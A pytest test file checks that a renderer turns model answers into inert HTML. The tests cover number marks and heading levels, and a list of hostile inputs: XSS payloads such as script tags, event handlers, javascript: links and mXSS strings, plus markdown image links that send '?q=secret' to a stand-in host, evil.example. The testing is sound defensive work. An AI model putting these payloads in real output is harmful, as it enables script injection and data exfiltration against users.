"""Rendering: whatever a model writes comes out as text, in a handful of tags without attributes."""

from html.parser import HTMLParser

import pytest

from analyses.rendering import TAGS, render_answer

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>@import 'http://evil.example/x.css'</style>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "[x](javascript:alert(1))",
    "[x](http://evil.example/?q=secret)",
    "![x](http://evil.example/?q=secret)",
    "![x][r]\n\n[r]: http://evil.example/?q=secret",
    "[r]\n\n[r]: javascript:alert(1) 'onmouseover=alert(1)'",
    "<http://evil.example/>",
    "http://evil.example/ www.evil.example me@evil.example",
    '```js" onload="alert(1)\ncode\n```',
    "| a |\n|:-:|\n| <b onclick=alert(1)>b</b> |",
    "# <input autofocus onfocus=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\ue001<script>\ue000alert(1)\ue005",
    "<div hx-get='/t/alfa/' hx-trigger='load'></div>",
    "\u202e<tpircs>\u2066\u200b",
]


class Inert(HTMLParser):
    """Fails on a tag or an attribute that is not ours."""

    def handle_starttag(self, tag, attrs):
        assert tag in TAGS | {"mark", "span"}, tag
        ours = {"class", "aria-hidden"} if tag in {"mark", "span"} else set()
        assert {name for name, _ in attrs} <= ours, attrs


def check(html):
    Inert().feed(html)
    assert not any("\ue000" <= sign <= "\uf8ff" for sign in html)


class TestHostileAnswers:
    @pytest.mark.parametrize("payload", PAYLOADS)
    def test_it_comes_out_inert(self, payload):
        check(render_answer(payload))
        check(render_answer(f"- **{payload}** and\n> {payload}\n\n1. {payload}"))

    @pytest.mark.parametrize("payload", PAYLOADS)
    def test_it_is_inert_wherever_the_stream_is_cut(self, payload):
        text = f"Good *{payload}* `{payload}`"
        for end in range(len(text)):
            check(render_answer(text[:end]))

    @pytest.mark.parametrize("payload", PAYLOADS)
    def test_marks_at_any_place_open_nothing(self, payload):
        for start in range(len(payload)):
            mark = {"start": start, "end": min(start + 3, len(payload)), "verdict": "unknown"}
            check(render_answer(payload, marks=[mark]))

    def test_an_address_stays_readable_as_text(self):
        assert render_answer("see [here](http://evil.example/a)") == "<p>see [here](http://evil.example/a)</p>\n"

    def test_direction_and_invisible_signs_are_gone(self):
        assert render_answer("a\u202eb\u200bc\u0007d") == "<p>abcd</p>\n"


def marked(text, *wanted):
    return [{"start": text.index(part), "end": text.index(part) + len(part), "verdict": to} for part, to in wanted]


class TestMarks:
    def test_a_found_number_is_underlined_in_its_place(self):
        text = "OEE was **78.0 %** of 100"
        assert render_answer(text, marks=marked(text, ("78.0 %", "found"))) == (
            '<p>OEE was <strong><mark class="num found">78.0 %</mark></strong> of 100</p>\n'
        )

    def test_an_unknown_number_says_so_without_colour(self):
        text = "97 %"
        assert render_answer(text, marks=marked(text, ("97 %", "unknown"))) == (
            '<p><mark class="num unknown">97 %<span class="sign" aria-hidden="true">?</span>'
            '<span class="visually-hidden"> (not in the figures)</span></mark></p>\n'
        )

    def test_a_verdict_it_does_not_know_counts_as_unknown(self):
        mark = {"start": 0, "end": 1, "verdict": '"><script>'}
        assert '<mark class="num unknown">' in render_answer("7", marks=[mark])

    def test_the_number_of_a_list_item_stays_the_number_of_a_list_item(self):
        text = "1. first\n2. second"
        html = render_answer(text, marks=marked(text, ("1", "unknown"), ("2", "unknown")))
        assert html == "<ol>\n<li>first</li>\n<li>second</li>\n</ol>\n"

    def test_offsets_hold_behind_signs_of_the_private_use_area(self):
        text = "\ue123 and 12"
        html = render_answer(text, marks=marked(text, ("12", "found")))
        assert html == '<p>\ufffd and <mark class="num found">12</mark></p>\n'

    def test_a_mark_beyond_a_growing_answer_is_left_out(self):
        assert render_answer("OEE", marks=[{"start": 10, "end": 12, "verdict": "found"}]) == "<p>OEE</p>\n"

    def test_a_reference_to_a_fact_is_set_apart(self):
        assert render_answer("Jam [F3, F4].") == '<p>Jam <span class="fact-ref">[F3, F4]</span>.</p>\n'


class TestHeadings:
    def test_they_go_below_those_of_the_page(self):
        assert render_answer("# A\n\n###### B") == "<h3>A</h3>\n<h6>B</h6>\n"

    def test_the_highest_is_the_next_below_the_pages_own(self):
        assert render_answer("### A\n\n#### B") == "<h3>A</h3>\n<h4>B</h4>\n"
